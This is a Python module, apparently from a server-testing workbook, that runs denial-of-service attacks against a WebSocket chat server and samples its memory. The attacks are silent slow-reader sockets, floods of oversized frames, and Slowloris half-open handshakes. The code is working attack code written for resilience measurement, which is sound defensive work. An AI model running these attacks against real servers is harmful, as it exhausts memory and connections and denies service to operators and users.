"""The slow-reader attack: sockets that never read, in a room where others talk.

    with start_server("daphne") as server:
        result = run_attack(server, readers=100, senders=10, seconds=20)
    result.growth_mb, result.samples            # how much the server's memory grew, and when

Every message sent to a room goes to every socket in it. A socket whose client never reads
fills its TCP buffers within a second; after that, whatever the server is given to send it has
to keep somewhere, or stop taking. Readers here are plain TCP sockets with a small receive
buffer that complete the WebSocket handshake and then read nothing, not even pings. Senders are
ordinary `websockets` clients, each sending chat messages at a rate the chat's limit allows and
reading everything they are sent (so they cost the server nothing extra). The server's resident
memory (RSS) is sampled throughout.
"""

import asyncio
import base64
import contextlib
import json
import os
import socket
import threading
import time
import uuid
from dataclasses import dataclass, field

import psutil
from websockets.asyncio.client import connect as websocket_connect
from websockets.exceptions import ConnectionClosed

__all__ = ["MB", "attack", "big_frames", "half_open_handshakes", "run_attack"]

MB = 2**20
#: The receive buffer each silent reader asks for; the kernel rounds it up to its minimum.
READER_BUFFER = 4096
#: What each sender sends: a chat message at the chat's length limit, in 3-byte characters.
DEFAULT_TEXT = "€" * 2000


@dataclass
class AttackResult:
    server: str
    readers: int
    senders: int
    rate: float
    seconds: float
    sent: int = 0
    #: (seconds since the attack began, server RSS in MB, MB queued in the kernel's buffers)
    samples: list = field(default_factory=list)
    #: Silent readers whose connections the server had closed by the end. (A server may give up
    #: on a socket and still hold its connection while the kernel has bytes for it.)
    readers_closed: int = 0

    @property
    def start_mb(self):
        return self.samples[0][1]

    @property
    def peak_mb(self):
        return max(rss for _, rss, _ in self.samples)

    @property
    def peak_queued_mb(self):
        return max(queued for _, _, queued in self.samples)

    @property
    def growth_mb(self):
        """How far the server's memory rose above where it was when the attack began."""
        return round(self.peak_mb - self.start_mb, 1)

    def __str__(self):
        return (
            f"{self.server}: {self.start_mb:.0f} MB -> peak {self.peak_mb:.0f} MB "
            f"(+{self.growth_mb:.0f} MB), up to {self.peak_queued_mb:.0f} MB queued in the kernel, "
            f"in {self.seconds:.0f} s; {self.sent} messages sent to {self.readers} silent readers"
        )


def handshake_request(host, port, path, origin):
    key = base64.b64encode(os.urandom(16)).decode()
    return (
        f"GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nUpgrade: websocket\r\n"
        f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"
        f"Origin: {origin}\r\n\r\n"
    ).encode()


def open_silent_reader(server, path, timeout=10):
    """A socket that completes the handshake on `path`, then never reads another byte."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, READER_BUFFER)
    sock.settimeout(timeout)
    try:
        sock.connect((server.host, server.port))
        sock.sendall(handshake_request(server.host, server.port, path, server.origin))
        status = sock.recv(12)  # b"HTTP/1.1 101": the rest of the answer stays unread
    except OSError:
        sock.close()
        raise
    if not status.endswith(b"101"):
        sock.close()
        raise ConnectionError(f"{path}: the handshake was refused: {status!r}")
    return sock


def queued_bytes(port):
    """Bytes the kernel holds, sent but not yet read by the peer, on sockets accepted on `port`.

    The kernel buffers a few MB per socket before the server even notices that a client is not
    reading (tcp_wmem); that memory is the server's too, though RSS does not show it.
    """
    total = 0
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        with contextlib.suppress(OSError), open(table) as rows:
            next(rows)
            for row in rows:
                fields = row.split()
                if int(fields[1].rsplit(":", 1)[1], 16) == port:
                    total += int(fields[4].split(":")[0], 16)
    return total


class MemorySampler(threading.Thread):
    """Samples a server's RSS, and what the kernel queues on its sockets, until stopped."""

    def __init__(self, pid, port, interval):
        super().__init__(daemon=True, name="rss-sampler")
        self.process = psutil.Process(pid)
        self.port = port
        self.interval = interval
        self.samples = []
        self.started_at = time.monotonic()
        self.finished = threading.Event()

    def sample(self):
        rss = self.process.memory_info().rss / MB
        queued = queued_bytes(self.port) / MB
        now = round(time.monotonic() - self.started_at, 2)
        self.samples.append((now, round(rss, 1), round(queued, 1)))

    def run(self):
        with contextlib.suppress(psutil.Error):
            self.sample()
            while not self.finished.wait(self.interval):
                self.sample()

    def stop(self):
        self.finished.set()
        self.join(5)


async def _drain(client):
    with contextlib.suppress(ConnectionClosed):
        async for _ in client:
            pass


async def _talk(server, path, senders, rate, text, seconds):
    """`senders` clients each sending `rate` messages a second for `seconds`; messages sent."""
    clients = [
        await websocket_connect(server.ws_url(path), origin=server.origin, open_timeout=10)
        for _ in range(senders)
    ]
    drains = [asyncio.create_task(_drain(client)) for client in clients]
    sent = 0
    frame = json.dumps({"message": text}, ensure_ascii=False)
    try:
        deadline = time.monotonic() + seconds
        tick = 1 / rate
        while time.monotonic() < deadline:
            started = time.monotonic()
            for client in clients:
                with contextlib.suppress(ConnectionClosed):
                    await client.send(frame)
                    sent += 1
            await asyncio.sleep(max(0.0, tick - (time.monotonic() - started)))
    finally:
        for client in clients:
            await client.close()
        for task in drains:
            task.cancel()
        await asyncio.gather(*drains, return_exceptions=True)
    return sent


def _server_closed(pid, readers):
    """How many of the readers' connections the server process no longer holds open."""
    ports = {sock.getsockname()[1] for sock in readers}
    held = {
        conn.raddr.port
        for conn in psutil.Process(pid).net_connections(kind="tcp")
        if conn.raddr and conn.raddr.port in ports and conn.status == psutil.CONN_ESTABLISHED
    }
    return len(ports - held)


async def attack(
    server,
    *,
    readers=100,
    senders=10,
    rate=4.0,
    seconds=20.0,
    text=DEFAULT_TEXT,
    interval=0.5,
    room=None,
    until=None,
    max_seconds=60.0,
):
    """Run the attack on a server process (workbook.processes) and return an AttackResult.

    From a coroutine (a notebook cell: `await attack(server)`); run_attack() is the same for
    plain functions. The silent readers are closed at the end. With `until` (a function of no
    arguments), the room talks on after `seconds`, a few seconds at a time, until `until()` is
    true or `max_seconds` have passed in all: how soon a reader's buffers fill depends on how
    fast a busy machine sends, and a server's send waits only once they are full.
    """
    path = f"/ws/chat/{room or 'slow-' + uuid.uuid4().hex[:8]}/"
    result = AttackResult(server.name, readers, senders, rate, seconds)
    silent = []
    sampler = MemorySampler(server.process.pid, server.port, interval)
    try:
        for _ in range(readers):
            silent.append(await asyncio.to_thread(open_silent_reader, server, path))
        sampler.start()
        began = time.monotonic()
        result.sent = await _talk(server, path, senders, rate, text, seconds)
        result.readers_closed = _server_closed(server.process.pid, silent)
        while until and not until() and time.monotonic() - began < max_seconds:
            result.sent += await _talk(server, path, senders, rate, text, 5.0)
            result.readers_closed = _server_closed(server.process.pid, silent)
        result.seconds = time.monotonic() - began
        sampler.stop()
    finally:
        sampler.stop()
        for sock in silent:
            sock.close()
    result.samples = sampler.samples
    return result


def run_attack(server, **options):
    """attack() from code that has no event loop running (tests, scripts)."""
    return asyncio.run(attack(server, **options))


async def _send_big_frame(server, path, size):
    """Open a socket and send one text frame of `size` bytes; True if the server took it all."""
    try:
        async with websocket_connect(
            server.ws_url(path), origin=server.origin, open_timeout=10, max_size=None
        ) as client:
            await client.send("x" * size)
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(client.recv(), 10)
    except (ConnectionClosed, OSError):
        return False
    return True


async def big_frames(server, *, sockets=30, size=15 * MB, interval=0.1):
    """`sockets` clients each sending one `size`-byte frame at once; the server's RSS meanwhile.

    Returns (start MB, peak MB). A server that refuses an oversized frame from its header never
    reads the rest; one that reads the whole frame before refusing it holds all of them at once.
    """
    sampler = MemorySampler(server.process.pid, server.port, interval)
    sampler.start()
    try:
        path = f"/ws/chat/big-{uuid.uuid4().hex[:8]}/"
        await asyncio.gather(*(_send_big_frame(server, path, size) for _ in range(sockets)))
        await asyncio.sleep(interval * 3)
    finally:
        sampler.stop()
    rss = [mb for _, mb, _ in sampler.samples]
    return rss[0], max(rss)


def _still_open(sock):
    try:
        return sock.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def half_open_handshakes(server, *, count=500, wait=40.0):
    """Slowloris: `count` handshakes sent all but their last line; how many the server still
    holds open `wait` seconds later."""
    request = handshake_request(server.host, server.port, "/ws/chat/slow/", server.origin)
    held = []
    try:
        for _ in range(count):
            sock = socket.create_connection((server.host, server.port), timeout=10)
            sock.sendall(request[:-2])  # never the blank line that ends the headers
            held.append(sock)
        time.sleep(wait)
        return sum(_still_open(sock) for sock in held)
    finally:
        for sock in held:
            sock.close()
